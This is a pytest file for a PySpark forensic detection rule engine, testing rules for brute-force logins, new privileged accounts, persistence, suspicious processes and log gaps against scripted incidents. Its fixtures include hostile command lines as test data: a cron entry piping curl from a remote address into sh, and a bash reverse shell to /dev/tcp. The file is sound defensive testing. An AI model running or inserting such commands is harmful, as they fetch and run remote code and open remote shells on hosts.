"""Every rule on a scripted incident: it fires, stays silent, merges, and names its evidence."""

from __future__ import annotations

import hashlib
from datetime import datetime, timedelta

import pytest
from pyspark.sql import functions as F

from fleetlens.functions.ids import event_hash, uuid5
from fleetlens.reports import summary, tables
from fleetlens.rules import REGISTRY, evidence_of, finding_errors, ranked, run_rules
from fleetlens.rules import base
from fleetlens.schema import EVENT_COLUMNS, EVENT_SCHEMA

START = datetime(2024, 1, 10, 2, 0, 0)


@pytest.fixture(scope="module")
def table(spark):
    """Event table from short dicts; everything left out has a usual value."""
    def build(*events):
        full = []
        for n, e in enumerate(events):
            row = dict(
                event_id=None, case_id="C1", host_id="h1", event_hash=None, event_kind="event", timestamp_utc=None,
                timestamp_local=None, timestamp_tz="UTC", tz_source="assumed_utc", timestamp_confidence="exact",
                category="login_activity", subcategory="failed_login", actor_user="carol", actor_uid=None,
                actor_process="sshd", source_ip=None, source_host=None, description="text", severity="low",
                source_artifact_path="var/log/auth.log", source_artifact_sha256="0" * 64, raw_line=f"line {n}",
                raw_line_offset=n * 100, parser_name="p", parser_version="1", tool_generated_flag=False, notes=None)
            row.update(e)
            row["timestamp_local"] = row["timestamp_local"] or row["timestamp_utc"]
            full.append(tuple(row[c] for c in EVENT_COLUMNS))
        df = spark.createDataFrame(full, EVENT_SCHEMA)
        key = [F.col(c) for c in ("host_id", "source_artifact_path", "raw_line_offset", "raw_line", "subcategory")]
        return df.withColumn("event_hash", event_hash(*key)).withColumn("event_id", uuid5(F.col("event_hash")))
    return build


def fail(seconds, ip="203.0.113.5", **kw):
    return dict(timestamp_utc=START + timedelta(seconds=seconds), source_ip=ip, **kw)


def incident():
    ip = "203.0.113.5"
    at = lambda m: START + timedelta(minutes=m)
    return [*[fail(6 * i, actor_user=f"u{i % 3}") for i in range(47)],
            dict(subcategory="successful_login", timestamp_utc=at(9), source_ip=ip, actor_user="deploy"),
            dict(subcategory="account_created", category="user_accounts", timestamp_utc=at(13), actor_user="svc"),
            dict(subcategory="group_membership_added", category="privilege_escalation", timestamp_utc=at(15), actor_user="svc"),
            dict(subcategory="authorized_key", category="persistence", timestamp_utc=None, event_kind="state_finding",
                 timestamp_confidence="unknown", description="key (file mtime 2024-01-10T02:20:00+00:00)"),
            dict(subcategory="suspicious_cron_job", category="persistence", timestamp_utc=at(20),
                 raw_line="curl http://203.0.113.5/x | sh", actor_user="root"),
            dict(subcategory="shell_command", category="user_activity", timestamp_utc=at(21), actor_user="deploy",
                 description="User deploy executed: bash -i >& /dev/tcp/1.2.3.4/9", raw_line="bash -i >& /dev/tcp/1.2.3.4/9"),
            dict(subcategory="process_execution", category="user_activity", timestamp_utc=at(22),
                 description="Process executed: bash -i >& /dev/tcp/1.2.3.4/9", raw_line="type=EXECVE bash -i")]


def found(events, name, **kw):
    return REGISTRY[name].findings(events, **kw).collect()


def expected_id(r, ids):
    lanes = [sum(int(hashlib.sha256(i.encode()).hexdigest()[15 * k: 15 * k + 15], 16) for i in ids) for k in (0, 1)]
    text = "\x1f".join([r.rule_name, r.rule_version, r.title, r.host_id or "", str(len(ids)), *map(str, lanes)])
    return hashlib.sha256(text.encode()).hexdigest()[:32]


def test_incident(table):
    events = table(*incident())
    report = run_rules(events)
    rows = ranked(report.findings).collect()
    assert report.failed == {}
    names = {r.rule_name for r in rows}
    assert {"brute_force", "brute_force_success", "new_account_privilege_grant", "persistence_after_login",
            "suspicious_process", "suspicious_cron", "off_hours_privileged"} <= names
    assert [r.severity for r in rows] == sorted((r.severity for r in rows), key=["high", "medium", "low", "info"].index)
    links: dict = {}
    for link in base.finding_events(report.findings, events).collect():
        links.setdefault(link.finding_id, []).append(link.event_id)
    for r in rows:
        # Predicate, keys, count and id speak of the same events.
        ids = sorted(links.get(r.finding_id, []))
        assert r.finding_id == expected_id(r, ids) and len(ids) == r.event_count, r.rule_name
        if ids:
            assert sorted(e.event_id for e in evidence_of(events, r.evidence_filter).collect()) == ids, r.rule_name
    assert report.findings.withColumn("e", finding_errors(report.findings)).filter(F.size("e") > 0).count() == 0
    one = {r.rule_name: r for r in rows}
    assert one["brute_force"].event_count == 47 and one["brute_force"].title == "Repeated failed logins from 203.0.113.5"
    assert one["brute_force_success"].event_count == 48 and one["brute_force_success"].first_ts_utc == START
    assert one["new_account_privilege_grant"].event_count == 2
    # One dated and one undated item; with an undated one the end is open.
    assert one["persistence_after_login"].event_count == 3 and one["persistence_after_login"].last_ts_utc is None
    merged = one["suspicious_process"]
    assert merged.confidence == "High" and merged.event_count == 3
    assert "shell history, kernel audit trail" in merged.what_happened
    stats = {r.rule_name: (r.success, r.findings) for r in report.stats().collect()}
    assert stats["brute_force"] == (1, 1) and stats["uid0_account"] == (1, 0)


def test_silence(table):
    # Four failures, failures outside the window, a success before its failures, tool noise.
    events = table(*[fail(i) for i in range(4)], *[fail(400 * i, ip="198.51.100.1") for i in range(9)],
                   dict(subcategory="successful_login", timestamp_utc=START, source_ip="203.0.113.5"),
                   *[fail(i, ip="192.0.2.1", tool_generated_flag=True) for i in range(9)])
    assert found(events, "brute_force") == [] and found(events, "brute_force_success") == []
    # Exactly five in exactly five minutes fire.
    events = table(*[fail(75 * i) for i in range(5)])
    assert [r.event_count for r in found(events, "brute_force")] == [5]
    late = table(dict(subcategory="account_created", timestamp_utc=START, actor_user="x"),
                 dict(subcategory="sudo_privilege", timestamp_utc=START + timedelta(minutes=61), actor_user="x"),
                 dict(subcategory="sudo_privilege", timestamp_utc=START - timedelta(minutes=1), actor_user="x"))
    assert found(late, "new_account_privilege_grant") == []


def test_evidence_of_any_size_has_one_formula(table):
    """Thousands of failures: one small row, the id of the same formula, and all events by their keys."""
    events = table(*[fail(i) for i in range(3000)], dict(subcategory="successful_login", timestamp_utc=START + timedelta(minutes=14),
                                                         source_ip="203.0.113.5", actor_user="root")).cache()
    for name, count in (("brute_force", 3000), ("brute_force_success", 841)):
        findings = REGISTRY[name].findings(events)
        [r] = findings.collect()
        ids = [x.event_id for x in base.finding_events(findings, events).collect()]
        assert r.event_count == len(ids) == len(set(ids)) == count and r.finding_id == expected_id(r, ids)
        assert evidence_of(events, r.evidence_filter).count() == count and len(r.evidence) <= 2
        [whole] = base.with_event_ids(findings, events).collect()
        assert whole.event_ids == sorted(ids)


def test_history_rules(table):
    login = lambda user, n: [dict(subcategory="session_opened", timestamp_utc=START + timedelta(hours=i), actor_user=user)
                             for i in range(n)]
    events = table(*login("ann", 3), *login("'bob'", 3), *login("zoe", 2), *login("sshd", 9), *login("typed", 4),
                   dict(subcategory="shell_command", category="user_activity", actor_user="typed", timestamp_utc=START))
    assert sorted(r.title for r in found(events, "wiped_history")) == [
        "Command history for ann is missing or empty", "Command history for bob is missing or empty"]


def test_log_rules(table):
    path = "var/log/app.log"
    steady = [dict(timestamp_utc=START + timedelta(minutes=10 * i), source_artifact_path=path) for i in range(50)]
    later = [dict(timestamp_utc=START + timedelta(hours=20, minutes=i), source_artifact_path=path) for i in range(10)]
    [gap] = found(table(*steady, *later), "timeline_gap")
    assert gap.title == "11.8-hour silence in var/log/app.log" and gap.event_count == 2
    assert found(table(*steady), "timeline_gap") == []
    [back] = found(table(*later, *steady), "backwards_timestamps")
    assert back.first_ts_utc == START and back.title == "Timestamps run backwards inside var/log/app.log"
    assert found(table(*steady, *later), "backwards_timestamps") == []
    names = lambda *ns: table(*[dict(source_artifact_path=f"var/log/auth.log.{n}") for n in ns])
    [rot] = found(names("1", "4.gz", "5"), "rotation_gap")
    assert rot.title == "Gap in the rotation sequence of var/log/auth.log" and "2-3" in rot.what_happened
    assert rot.evidence == [] and rot.event_count == 0 and found(names("1", "2", "3.gz"), "rotation_gap") == []
    empty = dict(subcategory="utmp_empty", event_kind="state_finding", source_artifact_path="var/log/wtmp")
    assert [r.confidence for r in found(table(empty), "zero_length_login_log")] == ["Medium"]
    other = dict(subcategory="session_opened", timestamp_utc=START)
    assert [r.confidence for r in found(table(empty, other), "zero_length_login_log")] == ["High"]


def test_first_seen(table):
    old = [dict(timestamp_utc=START + timedelta(hours=i), source_ip="192.0.2.1", actor_user="ann") for i in range(60)]
    new = [dict(timestamp_utc=START + timedelta(hours=50, minutes=i), source_ip="192.0.2.9", actor_user="ann") for i in range(30)]
    [r] = found(table(*old, *new), "first_seen")
    assert r.title == "First appearance of address 192.0.2.9" and r.event_count == 30
    assert found(table(*old[:20], *new[:20]), "first_seen") == []


def test_pivot_of_first_seen_gives_all_events(table):
    new = START + timedelta(hours=50)
    events = table(
        *[dict(timestamp_utc=START + timedelta(hours=i), source_ip="192.0.2.1", actor_user="ann") for i in range(60)],
        *[dict(timestamp_utc=new + timedelta(minutes=i), source_ip="192.0.2.9", actor_user="it's new") for i in range(40)],
        *[dict(timestamp_utc=None, source_ip="192.0.2.9", actor_user="it's new") for i in range(3)])
    findings = REGISTRY["first_seen"].findings(events).cache()
    pivot = base.finding_events(findings, events).cache()
    for r in findings.collect():
        want = sorted(e.event_id for e in evidence_of(events, r.evidence_filter).collect())
        assert sorted(e.event_id for e in pivot.filter(F.col("finding_id") == r.finding_id).collect()) == want and len(want) == 40
    assert findings.count() == 2 and pivot.count() == 80


def test_state_rules(table):
    s = lambda sub, **kw: dict(subcategory=sub, event_kind="state_finding", **kw)
    events = table(
        s("uid0_account", actor_user="toor"), s("account", actor_user="toor", actor_uid=0), s("account", actor_user="root", actor_uid=0),
        s("passwordless_account", actor_user="'bob'"), s("passwordless_account", actor_user="bob"),
        s("privileged_group_member", actor_user="ann", description="User ann belongs to privileged group sudo"),
        s("privileged_group_member", actor_user="ann", description="User ann belongs to privileged group docker (x)"),
        s("sshd_setting", raw_line=" PermitRootLogin yes"), s("x", source_artifact_path="etc/LD.SO.PRELOAD"))
    assert [(r.title, r.event_count) for r in found(events, "uid0_account")] == [
        ("Non-root account with root privileges: toor", 2)]
    assert [(r.title, r.event_count) for r in found(events, "passwordless_account")] == [("Passwordless user account: bob", 2)]
    [g] = found(events, "privileged_group_member")
    assert g.event_count == 2 and "docker, sudo" in g.what_happened
    assert [r.title for r in found(events, "sshd_config_risk")] == ["Insecure SSH configuration: PermitRootLogin yes"]
    assert len(found(events, "ld_preload_rootkit")) == 1


def test_rules_do_not_depend_on_row_order(table):
    events = table(*incident())
    ids = lambda df: sorted(r.finding_id for r in run_rules(df, ["brute_force", "suspicious_process", "off_hours_privileged"]
                                                            ).findings.collect())
    assert ids(events) == ids(events.orderBy(F.rand(1)).repartition(3))


def test_sessions_by_terminal(table):
    row = lambda sub, m, user, line: dict(subcategory=sub, timestamp_utc=START + timedelta(minutes=m), actor_user=user,
                                          raw_line=line)
    events = table(row("login", 0, "ann", "line=pts/0 x"), row("login", 5, "ann", "line=pts/1 x"),
                   row("logout", 65, None, "line=pts/1 x"), row("logout", 70, "ann", "line=pts/9 x"),
                   row("login", 80, "zoe", "line=pts/2 x"), row("logout", 1, "bob", "line=pts/7 x"))
    got = sorted((r.actor_user, r.terminal, r.duration, r.status) for r in tables.sessions_by_terminal(events).collect())
    assert got == [("ann", "pts/0", "1h 10m 0s", "Closed"), ("ann", "pts/1", "1h 0m 0s", "Closed"),
                   ("zoe", "pts/2", "Active / Session Open", "Active / Unclosed")]


def test_executive_summary(table):
    findings = run_rules(table(*incident())).findings
    assert summary.key_observations(findings).count() == 5
    steps = [r.step for r in summary.recommended_actions(findings).collect()]
    assert len(steps) == len(set(steps)) == 5


def test_stored_findings_leave_no_plan_with_all_rules_and_a_rule_may_fail_while_it_runs(table, monkeypatch):
    events = table(*incident())
    monkeypatch.setitem(REGISTRY, "breaks", base.Rule("breaks", "1.0", lambda events: REGISTRY["brute_force"].findings(events).withColumn(
        "title", F.raise_error(F.lit("broken row")).cast("string"))))
    report = run_rules(events, stored=True)
    assert list(report.failed) == ["breaks"] and "SparkRuntimeException" in report.failed["breaks"]
    ids = lambda df: sorted(r.finding_id for r in df.select("finding_id").collect())
    assert ids(report.findings) == ids(run_rules(events, [n for n in REGISTRY if n != "breaks"]).findings) != []
    plan = report.findings._jdf.queryExecution().optimizedPlan().toString()
    assert "Join" not in plan and "Aggregate" not in plan


def test_persistence_counts_what_occurs_only(table):
    at = lambda m: START + timedelta(minutes=m)
    events = [*[fail(i) for i in range(5)], dict(subcategory="successful_login", timestamp_utc=at(9), source_ip="203.0.113.5")]
    assert found(table(*events), "persistence_after_login") == []
    [r] = found(table(*events, dict(subcategory="systemd_unit", category="persistence", timestamp_utc=at(20))), "persistence_after_login")
    assert r.event_count == 2 and r.last_ts_utc == at(20) and "systemd unit" in r.what_happened and "," not in r.what_happened


def test_a_failed_rule_is_no_result(spark, monkeypatch):
    from fleetlens.plans import rule_queries
    from fleetlens.plans.catalogue import QUERIES
    folder = "/root/testdata/sf0.001"
    broken = base.Rule("breaks", "1.0", lambda events: REGISTRY["ld_preload_rootkit"].findings(events).withColumn(
        "title", F.raise_error(F.lit("broken row")).cast("string")))
    monkeypatch.setattr(rule_queries, "_all", {})
    monkeypatch.setattr(base, "REGISTRY", {"breaks": broken, "sshd_config_risk": REGISTRY["sshd_config_risk"]})
    for name in ("rpt_23_findings_list", "rpt_24_findings_per_severity", "lim_5_severity_ranked", "rul_20_all_findings"):
        with pytest.raises(RuntimeError, match="rules failed: .*breaks"):
            QUERIES[name](spark, folder)
    # The runner's table is about failures, and is not kept once the rule is mended.
    assert {r.rule_name: (r.success, r.fail) for r in QUERIES["rul_20_rule_runner"](spark, folder).collect()} == {
        "breaks": (0, 1), "sshd_config_risk": (1, 0)}
    base.REGISTRY["breaks"] = REGISTRY["ld_preload_rootkit"]
    assert QUERIES["rpt_24_findings_per_severity"](spark, folder).count() == 4
